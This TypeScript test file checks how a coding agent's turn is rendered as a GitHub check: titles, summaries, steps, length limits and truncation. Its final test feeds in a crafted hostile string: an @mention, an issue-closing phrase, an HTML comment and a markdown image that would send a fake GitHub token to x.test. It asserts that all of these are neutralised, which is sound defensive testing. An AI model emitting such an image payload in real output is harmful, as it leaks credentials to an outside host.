import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { Answer } from "../../src/core/types.ts";
import type { ReportedStep } from "../../src/surfaces/forge.ts";
import { checkOutput } from "../../src/surfaces/github-check-text.ts";

const answer: Answer = {
  ...{ turn: "t1", session: "s1", title: "fix the login", repository: "acme/api", askers: [], page: null },
  result: {
    ...{ outcome: "done", answer: "Fixed the cookie.", branch: "threadbox/login-x", durationMs: 72_000 },
    changes: { files: 3, insertions: 10, deletions: 2 },
    usage: { inputTokens: 11_200, outputTokens: 800, costUsd: 0.1234 },
  },
  pullRequest: { number: 12, url: "https://github.com/acme/api/pull/12" },
  tests: [{ command: "npm test", ok: true }],
};
const steps: ReportedStep[] = [
  { is: "said", text: "I look at the cookie first." },
  { is: "ran", title: "cat src/login.ts", ok: true, durationMs: 40 },
  { is: "ran", title: "npm run lint", ok: false, durationMs: 3_000 },
  { is: "ran", title: "npm test", ok: null, durationMs: null },
];

test("the check says how the turn ended, what it did, and every step", () => {
  assert.deepEqual(checkOutput({ answer, steps }), {
    title: "Done: 3 files +10 −2",
    summary: `[pull request #12](https://github.com/acme/api/pull/12) · \`threadbox/login-x\` · 3 files +10 −2

tests: \`npm test\` passed

acme/api · 1 min 12 s · 12.0k tokens · $0.12 · session \`s1\`

This only tells what was done. It is neutral however the turn ended, and says nothing about whether this may be merged: do not make it a required check.`,
    text: `### What the agent said

Fixed the cookie.

### Tests

- \`npm test\` passed

### Steps

I look at the cookie first.

✓ \`cat src/login.ts\` 0 s

✗ \`npm run lint\` (failed) 3 s

▸ \`npm test\``,
  });
});

describe("the title of the check", () => {
  const { result } = answer;
  const rows: [Answer["result"], string][] = [
    [{ ...result, outcome: "stopped", stoppedBy: "@bob" }, "Stopped by @\u200bbob: 3 files +10 −2"],
    [{ outcome: "failed", answer: "", durationMs: 1 }, "Failed"],
    [{ outcome: "timed-out", answer: "", durationMs: 1 }, "Timed out"],
  ];
  for (const [one, title] of rows)
    test(title, () => assert.equal(checkOutput({ answer: { ...answer, result: one }, steps }).title, title));
});

test("a failure stands first in the summary", () => {
  const failure = { code: "git.push-refused", detail: "main is protected" };
  const failed = { ...answer, result: { ...answer.result, outcome: "failed" as const, failure } };
  assert.match(checkOutput({ answer: failed, steps }).summary, /^main is protected\n\n/);
});

test("#43 steps of a session that was spoken to in Slack are not shown to those who read the repository", () => {
  assert.match(checkOutput({ answer, steps: null }).text, /Steps\n\nThey are not shown here/);
});

describe("a turn of any length", () => {
  const long: [string, Answer, ReportedStep[]][] = [
    [
      "with a thousand steps",
      answer,
      Array.from({ length: 1_000 }, (_, i) => ({
        is: "ran",
        title: `${i} ${"é".repeat(200)}`,
        ok: true,
        durationMs: 1,
      })),
    ],
    [
      "with an answer as long as a book",
      { ...answer, result: { ...answer.result, answer: "😀 ".repeat(40_000) } },
      steps,
    ],
    [
      "with an error as long as a book",
      { ...answer, result: { ...answer.result, failure: { code: "x", detail: "é".repeat(90_000) } } },
      steps,
    ],
  ];
  for (const [name, told, said] of long)
    test(`${name} fits GitHub's 65,535, counted as bytes or as characters`, () => {
      const { title, summary, text } = checkOutput({ answer: told, steps: said });
      for (const one of [title, summary, text]) assert.ok(Buffer.byteLength(one) <= 65_535);
      assert.doesNotMatch(summary + text, /\ufffd/);
    });

  test("keeps the newest steps, and says how many went before", () => {
    const many: ReportedStep[] = Array.from({ length: 1_000 }, (_, i) => ({
      is: "ran",
      title: `step-${i} ${"x".repeat(200)}`,
      ok: true,
      durationMs: 1,
    }));
    const { text } = checkOutput({ answer, steps: many });
    assert.match(text, /… \d{3} earlier steps\n/);
    assert.match(text, /step-999 /);
    assert.doesNotMatch(text, /step-0 /);
  });
});

test("what an agent wrote pings, closes, hides, loads and tells nothing", () => {
  const token = `ghs_${"a".repeat(40)}`;
  const evil = `@alice fixes #1 <!-- x --> ![](https://x.test/?${token}) ${token}`;
  const output = checkOutput({
    answer: {
      ...answer,
      result: { ...answer.result, answer: evil, branch: evil, failure: { code: "x", detail: evil } },
    },
    steps: [
      { is: "said", text: evil },
      { is: "ran", title: `${"x".repeat(280)} ${token}`, ok: true, durationMs: 1 },
    ],
  });
  const prose = Object.values(output)
    .join("\n")
    .replace(/`[^`]*`/g, "");
  assert.doesNotMatch(prose, /@alice|fixes #1|<!-- x|!\[\]/);
  assert.doesNotMatch(JSON.stringify(output), /ghs_a/);
});
